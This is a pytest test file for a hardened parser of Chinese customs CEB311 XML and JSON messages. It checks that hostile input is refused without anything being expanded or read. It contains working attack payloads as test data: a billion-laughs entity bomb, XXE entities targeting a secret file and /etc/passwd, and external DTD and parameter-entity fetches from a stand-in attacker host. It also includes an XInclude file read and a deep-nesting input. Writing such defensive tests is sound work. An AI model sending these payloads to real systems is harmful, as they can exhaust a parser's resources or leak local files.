"""Hostile XML is refused with specific errors; nothing is expanded, no file or network is read."""

from __future__ import annotations

import base64
import time
from pathlib import Path

import pytest
from lxml import etree

from cbec.messages.ceb import (
    CebFormatError,
    CebTooLargeError,
    CebUnsafeXmlError,
    build_dxp,
    dump_json,
    parse_json,
    parse_xml,
    to_json,
)
from cbec.messages.ceb.safe import DEFAULT_MAX_BYTES, parse_document, safe_parser

from .samples import official

CEB = 'xmlns:ceb="http://www.chinaport.gov.cn/ceb"'

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ceb:CEB311Message {CEB} guid="x" version="&lol9;"><ceb:Order>&lol9;</ceb:Order></ceb:CEB311Message>
""".encode()


def xxe(target: str) -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "{target}">]>
<ceb:CEB311Message {CEB} guid="x" version="1.0"><ceb:Order><ceb:OrderHead><ceb:note>&xxe;</ceb:note>
</ceb:OrderHead></ceb:Order></ceb:CEB311Message>""".encode()


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-MARKER-4711", encoding="utf-8")
    return path


class TestDoctypeIsRefused:
    def test_billion_laughs_is_refused_quickly_and_not_expanded(self) -> None:
        started = time.perf_counter()
        with pytest.raises(CebUnsafeXmlError) as caught:
            parse_xml(BILLION_LAUGHS)
        assert time.perf_counter() - started < 0.5
        assert [f.code for f in caught.value.findings] == ["CEB_XML_UNSAFE"]
        assert "lollol" not in str(caught.value)

    def test_external_entity_file_is_refused_and_never_read(self, secret_file: Path) -> None:
        with pytest.raises(CebUnsafeXmlError) as caught:
            parse_xml(xxe(secret_file.as_uri()))
        assert "TOP-SECRET-MARKER" not in str(caught.value)
        assert "TOP-SECRET-MARKER" not in repr(caught.value.findings)

    def test_external_entity_etc_passwd_is_refused(self) -> None:
        with pytest.raises(CebUnsafeXmlError):
            parse_xml(xxe("file:///etc/passwd"))

    def test_external_dtd_is_refused(self) -> None:
        document = f"""<?xml version="1.0"?>
<!DOCTYPE ceb:CEB311Message SYSTEM "http://attacker.invalid/evil.dtd">
<ceb:CEB311Message {CEB} guid="x" version="1.0"/>""".encode()
        with pytest.raises(CebUnsafeXmlError):
            parse_xml(document)

    def test_parameter_entities_are_refused(self) -> None:
        document = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]><x/>"""
        with pytest.raises(CebUnsafeXmlError):
            parse_xml(document)

    @pytest.mark.parametrize(
        "prolog",
        [
            b"\xef\xbb\xbf",
            b'<?xml version="1.0"?>\n<!-- a comment -->\n',
            b"<?pi something?>\n\n\t",
        ],
    )
    def test_doctype_behind_bom_comment_or_pi_is_still_found(self, prolog: bytes) -> None:
        with pytest.raises(CebUnsafeXmlError):
            parse_xml(prolog + b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>')

    def test_the_parser_itself_does_not_expand_external_entities(self, secret_file: Path) -> None:
        # Second line of defence, below the prolog check: the configured lxml parser.
        root = etree.fromstring(xxe(secret_file.as_uri()), safe_parser())
        assert "TOP-SECRET-MARKER" not in etree.tostring(root).decode()

    def test_xinclude_is_not_processed(self, secret_file: Path) -> None:
        xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
        document = f"""<ceb:CEB311Message {CEB} {xi} guid="x" version="1.0">
<ceb:Order><ceb:OrderHead><xi:include href="{secret_file.as_uri()}" parse="text"/></ceb:OrderHead></ceb:Order>
</ceb:CEB311Message>""".encode()
        message = parse_xml(document)
        assert "TOP-SECRET-MARKER" not in repr(message)


class TestEnvelopesAndJsonCarryNoBypass:
    def test_doctype_inside_dxp_data_is_refused(self) -> None:
        envelope = build_dxp(
            BILLION_LAUGHS, "DXPENT0000458763", "DXPEDCCEB0000002", "C1", msg_type="CEB311Message"
        )
        with pytest.raises(CebUnsafeXmlError):
            parse_xml(envelope)

    def test_doctype_inside_a_json_signature_is_refused(self, secret_file: Path) -> None:
        body = to_json(parse_xml(official("CEB311Message.xml")))
        body["CEB311Message"]["Signature"] = base64.b64encode(xxe(secret_file.as_uri())).decode()
        with pytest.raises(CebUnsafeXmlError):
            parse_json(body)


class TestSize:
    def test_default_cap_is_ten_megabytes(self) -> None:
        assert DEFAULT_MAX_BYTES == 10_000_000
        with pytest.raises(CebTooLargeError) as caught:
            parse_xml(b"<x/>" + b" " * DEFAULT_MAX_BYTES)
        assert [f.code for f in caught.value.findings] == ["CEB_TOO_LARGE"]

    def test_cap_is_a_parameter(self) -> None:
        data = official("CEB311Message.xml")
        with pytest.raises(CebTooLargeError):
            parse_xml(data, max_bytes=len(data) - 1)
        assert parse_xml(data, max_bytes=len(data)).message_type == "CEB311Message"

    def test_an_envelope_is_capped_as_a_whole(self) -> None:
        # Base64 only grows, so capping the envelope also bounds the decoded payload.
        inner = official("CEB311Message.xml")
        envelope = build_dxp(inner, "DXPENT0000458763", "DXPEDCCEB0000002", "C1")
        with pytest.raises(CebTooLargeError):
            parse_xml(envelope, max_bytes=len(inner) + 1)

    def test_json_is_capped(self) -> None:
        data = dump_json(parse_xml(official("CEB311Message.xml")))
        with pytest.raises(CebTooLargeError):
            parse_json(data, max_bytes=len(data) - 1)

    def test_deep_nesting_is_refused_as_malformed(self) -> None:
        depth = 100_000
        with pytest.raises(CebFormatError) as caught:
            parse_xml(b"<a>" * depth + b"</a>" * depth)
        assert caught.value.findings[0].code == "CEB_XML_MALFORMED"


class TestMalformed:
    @pytest.mark.parametrize(
        "document",
        [
            b"",
            b"not xml",
            b"<ceb:CEB311Message>",  # unbound prefix, unclosed
            '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"),
            '<?xml version="1.0" encoding="GBK"?><a>中</a>'.encode("gbk"),
        ],
    )
    def test_is_a_format_error_not_a_crash(self, document: bytes) -> None:
        with pytest.raises(CebFormatError) as caught:
            parse_xml(document)
        assert type(caught.value) is CebFormatError
        assert caught.value.findings[0].code == "CEB_XML_MALFORMED"

    def test_a_utf8_bom_is_accepted(self) -> None:
        data = official("CEB311Message.xml")
        assert data.startswith(b"\xef\xbb\xbf")
        assert parse_document(data).tag == "{http://www.chinaport.gov.cn/ceb}CEB311Message"
